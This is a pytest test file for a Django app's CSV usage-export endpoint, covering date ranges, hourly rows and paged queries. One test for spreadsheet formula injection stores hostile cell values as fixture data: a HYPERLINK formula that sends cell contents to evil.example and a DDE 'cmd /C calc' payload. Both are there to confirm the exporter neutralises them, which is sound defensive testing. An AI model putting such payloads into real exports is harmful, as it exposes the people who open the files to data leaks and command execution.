from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from tests.usage.conftest import add_usage

pytestmark = pytest.mark.django_db


def export(client, team, query):
    response = client.get(f"/a/{team.slug}/usage/export.csv?{query}")
    return response, b"".join(response.streaming_content).decode() if response.streaming else ""


def test_it_exports_by_day(client, alice, team, some_usage):
    client.force_login(alice)
    response, body = export(client, team, "start=2026-11-01&end=2026-11-30&by=day")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert sum(int(r["count"]) for r in rows) == 855
    assert {r["start"] for r in rows} == {"2026-11-02", "2026-11-23"}
    assert rows[0]["key_name"].startswith("Production (tg_live_")


def test_it_exports_by_hour(client, alice, team, some_usage):
    client.force_login(alice)
    _, body = export(client, team, "start=2026-11-23&end=2026-11-23&by=hour")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [(r["start"], r["endpoint"], r["outcome"], r["count"]) for r in rows] == [
        ("2026-11-23T20:00:00+00:00", "GET /demo/hello", "ok", "120"),
        ("2026-11-23T21:00:00+00:00", "GET /demo/hello", "rate_limited", "5"),
        ("2026-11-23T21:00:00+00:00", "POST /demo/echo", "ok", "30"),
    ]


@pytest.mark.parametrize(
    ("query", "message"),
    [
        (
            "start=2026-11-23&end=2026-11-01&by=day",
            "The end date must be on or after the start date.",
        ),
        ("start=yesterday&end=2026-11-01&by=day", "Enter a valid date."),
        ("start=2026-11-01&end=2026-11-02&by=minute", "Select a valid choice."),
    ],
)
def test_a_bad_range_gets_a_clear_page(client, alice, team, query, message):
    client.force_login(alice)
    response = client.get(f"/a/{team.slug}/usage/export.csv?{query}")
    assert response.status_code == 400
    assert message in response.content.decode().replace("&#x27;", "'")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_cells_cannot_become_spreadsheet_formulas(client, alice, team, live_key, start):
    """OWASP CSV injection: a key name or endpoint a customer controls starts with a formula
    character; the cell gets a leading apostrophe. The count column stays a plain number."""
    live_key.name = f'{start}HYPERLINK("https://evil.example/?"&A1,"open")'
    live_key.save(update_fields=["name"])
    hour = datetime(2026, 11, 23, 20, tzinfo=UTC)
    add_usage(team, live_key, hour, 7, endpoint=f"{start}cmd|' /C calc'!A0")
    client.force_login(alice)
    _, body = export(client, team, "start=2026-11-23&end=2026-11-23&by=hour")
    [row] = list(csv.DictReader(io.StringIO(body, newline="")))
    assert row["key_name"] == "'" + live_key.name + f" ({live_key.prefix}…)"
    assert row["endpoint"] == f"'{start}cmd|' /C calc'!A0"
    assert row["count"] == "7"
    assert row["start"] == "2026-11-23T20:00:00+00:00"


def test_numbers_are_never_neutralised():
    from portal.csv_cells import safe_row

    assert safe_row([-5, 0, 3.5, "-5", "plain", ""]) == [-5, 0, 3.5, "'-5", "plain", ""]


def test_without_server_side_cursors_it_reads_in_pages_and_exports_the_same(
    client, alice, team, live_key, monkeypatch, django_assert_num_queries
):
    """DISABLE_SERVER_SIDE_CURSORS (PgBouncer transaction pooling): pages that continue after
    the last row, each a query of its own, instead of one cursor over the whole range."""
    from datetime import UTC, date, datetime

    from django.db import connection

    from tests.usage.conftest import add_usage
    from usage import export as export_module
    from usage.export import ExportQuery, export_rows

    for hour in range(7):
        for outcome in ("ok", "rate_limited", "quota_exceeded"):
            add_usage(team, live_key, datetime(2026, 11, 23, hour, tzinfo=UTC), hour + 1, outcome)
    query = ExportQuery(team, date(2026, 11, 23), date(2026, 11, 23), "hour")
    with_cursor = list(export_rows(query))
    monkeypatch.setitem(connection.settings_dict, "DISABLE_SERVER_SIDE_CURSORS", True)
    monkeypatch.setattr(export_module, "EXPORT_CHUNK", 4)
    with django_assert_num_queries(1 + 6):  # the key names, then 21 rows in pages of 4
        paged = list(export_rows(query))
    assert paged == with_cursor and len(paged) == 21
    client.force_login(alice)
    _, body = export(client, team, "start=2026-11-23&end=2026-11-23&by=hour")
    assert sum(int(r["count"]) for r in csv.DictReader(io.StringIO(body))) == 3 * sum(range(1, 8))
